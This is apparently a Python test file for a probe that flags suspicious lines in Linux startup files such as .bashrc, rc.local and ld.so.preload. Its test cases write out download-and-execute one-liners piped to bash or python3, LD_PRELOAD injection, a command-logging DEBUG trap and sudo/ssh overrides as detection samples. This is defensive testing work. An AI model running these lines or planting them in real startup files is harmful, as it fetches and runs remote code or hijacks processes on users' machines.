from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from probes.base import GatherContext
from probes.host.startup_files import StartupFilesProbe, match_kinds, preload_entries
from probes.transport import LocalTransport
from tests.probes.golden import cases, check_case


@pytest.mark.parametrize("raw_path", cases("startup_files"), ids=lambda p: p.name)
def test_golden(raw_path):
    check_case("startup_files", raw_path)


@pytest.mark.parametrize(("line", "kinds"), [
    ("curl -fsSL http://x/i.sh | bash", ["download_exec"]),
    ("wget -qO- http://x/i | sudo sh", ["download_exec"]),
    ('bash -c "$(curl -s http://x/a)"', ["download_exec"]),
    ("bash <(wget -qO- http://x/a)", ["download_exec"]),
    ("curl -s http://x/a.py | python3", ["download_exec"]),
    ("curl -o /tmp/f http://x/f", []),  # a download alone is not download-and-run
    ("export LD_PRELOAD=/lib/x.so", ["ld_preload"]),
    ("LD_PRELOAD=/lib/x.so", ["ld_preload"]),
    ("unset LD_LIBRARY_PATH", []),
    ("PROMPT_COMMAND='history -a'", ["prompt_command"]),
    ("PROMPT_COMMAND+=(x)", ["prompt_command"]),
    ("trap 'log $BASH_COMMAND' DEBUG", ["debug_trap"]),
    ("alias sudo='sudo '", ["command_override"]),
    ("ssh() { command ssh -v \"$@\"; }", ["command_override"]),
    ("alias ll='ls -l'", []),
    ("sudo apt update", []),
])
def test_patterns(line, kinds):
    assert match_kinds(line) == kinds


def test_preload_entries_whitespace_colons_comments():
    assert preload_entries("# c\n/lib/a.so /lib/b.so:/lib/c.so # trailing\n\n") == ["/lib/a.so", "/lib/b.so",
                                                                                    "/lib/c.so"]


def _write(root: Path, path: str, text: str, mode: int = 0o644) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    target.chmod(mode)
    return target


def test_fixture_root(tmp_path: Path):
    _write(tmp_path, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
                                   "svc:x:999:999::/nonexistent:/usr/sbin/nologin\n")
    _write(tmp_path, "/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/agent &\nexit 0\n", 0o755)
    _write(tmp_path, "/etc/ld.so.preload", "/lib/libz0.so\n")
    _write(tmp_path, "/etc/profile", "export PATH\n")
    _write(tmp_path, "/etc/profile.d/a.sh", "umask 027\n", 0o666)
    bashrc = _write(tmp_path, "/home/alice/.bashrc", "# x\nalias ssh='ssh -v'\nexport LD_PRELOAD=/tmp/k.so\n")
    _write(tmp_path, "/root/.profile", "mesg n\n")
    probe = StartupFilesProbe()
    ctx = GatherContext(LocalTransport(root=str(tmp_path)))
    rows = {r.path: r for r in probe.parse(probe.gather(ctx))}
    assert set(rows) == {"/etc/rc.local", "/etc/ld.so.preload", "/etc/profile", "/etc/profile.d/a.sh",
                         "/home/alice/.bashrc", "/root/.profile"}
    rc = rows["/etc/rc.local"]
    assert rc.exists and rc.executable and rc.command_count == 1 and rc.entries == ("/usr/local/bin/agent &",)
    assert rows["/etc/ld.so.preload"].entries == ("/lib/libz0.so",)
    assert rows["/etc/profile.d/a.sh"].mode == "0666"
    user = rows["/home/alice/.bashrc"]
    assert user.kind == "user_shell" and user.account == "alice"
    assert user.suspicious_lines == 2 and user.suspicious_kinds == ("command_override", "ld_preload")
    assert user.suspicious_snippets == ("2: alias ssh='ssh -v'", "3: export LD_PRELOAD=/tmp/k.so")
    assert user.sha256 == hashlib.sha256(bashrc.read_bytes()).hexdigest() and user.size == bashrc.stat().st_size
    # Absent rc.local and ld.so.preload are still reported, as absent.
    os.unlink(tmp_path / "etc/rc.local")
    os.unlink(tmp_path / "etc/ld.so.preload")
    rows = {r.path: r for r in probe.parse(probe.gather(GatherContext(LocalTransport(root=str(tmp_path)))))}
    assert not rows["/etc/rc.local"].exists and not rows["/etc/ld.so.preload"].exists
    assert rows["/etc/ld.so.preload"].command_count == 0


def test_live_system_profile():
    probe = StartupFilesProbe()
    rows = {r.path: r for r in probe.parse(probe.gather(GatherContext(LocalTransport())))}
    assert rows["/etc/ld.so.preload"].exists == os.path.exists("/etc/ld.so.preload")
    assert rows["/etc/rc.local"].exists == os.path.exists("/etc/rc.local")
    profile = rows["/etc/profile"]
    assert profile.sha256 == hashlib.sha256(Path("/etc/profile").read_bytes()).hexdigest()
    assert profile.owner_uid == os.stat("/etc/profile").st_uid
    for name in os.listdir("/etc/profile.d"):
        assert f"/etc/profile.d/{name}" in rows
